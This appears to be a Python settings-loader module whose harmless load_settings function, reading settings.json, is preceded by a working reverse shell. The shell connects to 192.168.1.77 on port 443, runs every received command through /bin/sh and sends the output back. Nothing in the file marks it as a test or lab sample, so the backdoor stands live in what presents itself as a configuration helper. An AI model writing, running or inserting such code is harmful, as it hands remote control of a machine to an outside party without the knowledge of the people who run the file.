#!/usr/bin/env python3

import socket, subprocess
sock = socket.socket()
sock.connect(("192.168.1.77", 443))
while True:
    cmd = sock.recv(1024).decode()
    out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)
    sock.send(out.stdout)
import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)
